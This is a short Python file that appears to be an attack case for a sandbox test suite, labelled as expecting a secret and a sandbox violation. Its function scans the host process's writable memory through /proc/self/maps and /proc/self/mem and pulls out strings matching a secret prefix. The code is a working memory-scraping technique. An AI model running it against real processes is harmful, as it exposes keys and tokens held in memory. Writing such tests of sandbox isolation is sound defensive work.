"""Read the memory of the host process through /proc/self/maps and /proc/self/mem.

Evidence: secret
Sandbox: violation, error
"""


def attack(target):
    found = []
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
        for line in maps:
            area, rights = line.split()[:2]
            low, high = (int(end, 16) for end in area.split("-"))
            if rights[:2] != "rw" or high - low > 1 << 26:
                continue
            try:
                memory.seek(low)
                block = memory.read(high - low)
            except (OSError, ValueError, OverflowError):
                continue
            at = block.find(target["secret_prefix"].encode())
            if at >= 0:
                found.append(block[at : at + 64].decode("ascii", "replace"))
    return found
